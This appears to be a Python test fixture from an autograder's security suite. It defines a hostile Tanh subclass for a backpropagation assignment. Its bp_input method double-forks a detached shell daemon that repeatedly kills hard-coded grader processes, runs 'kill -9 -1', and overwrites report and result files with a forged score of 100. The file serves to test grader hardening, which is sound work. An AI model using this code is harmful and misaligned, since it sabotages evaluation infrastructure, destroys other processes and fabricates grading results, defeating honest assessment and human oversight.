"""Reaching out of the sandbox from Tanh.bp_input: kill -9 of the grader and of a process of the
grader's user (pids hard-coded, as a student could guess them), and a daemon (new session,
double fork) that tries to outlive grading and, for a minute, kills them again, runs
kill(-1, SIGKILL) (everything its user may signal but itself) and rewrites the report and
result files it was told about. The daemon's kill(-1) also ends Tanh's own worker: Tanh
loses what it loses, no other class anything."""

# ruff: noqa
# target: Tanh
import os
import signal
import subprocess


def _targets():
    pids = os.environ.get("BACKPROP_HOSTILE_PIDS", "")
    return [int(p) for p in pids.split(",") if p.strip().isdigit()]


def _files():
    return [p for p in os.environ.get("BACKPROP_HOSTILE_FILES", "").split(os.pathsep) if p]


class Tanh(Tanh):
    done = False

    def bp_input(self, grad):
        if not Tanh.done:
            Tanh.done = True
            tag = os.environ.get("BACKPROP_HOSTILE_TAG", "backprop-hostile-daemon")
            forged = '{"score": 100, "status": "graded", "forged": true}'
            script = (
                "i=0; while [ $i -lt 300 ]; do i=$((i + 1)); "  # shell builtins: kill -1 spares them
                + "".join(f"kill -9 {p} 2>/dev/null; " for p in _targets())
                + "".join(f"echo '{forged}' > '{f}' 2>/dev/null; " for f in _files())
                + "kill -9 -1 2>/dev/null; sleep 0.2; done"  # -1: all it may signal but itself
            )
            pid = os.fork()
            if pid == 0:  # a daemon: new session, second fork, the middle process exits
                os.setsid()
                if os.fork() == 0:
                    os.execvp("sh", ["sh", "-c", script, tag])
                os._exit(0)
            os.waitpid(pid, 0)
            for target in _targets():
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
            for path in _files():
                try:
                    with open(path, "w") as f:
                        f.write(forged)
                except OSError:
                    pass
        return super().bp_input(grad)


# --- honest twin
class Tanh(Tanh):
    pass
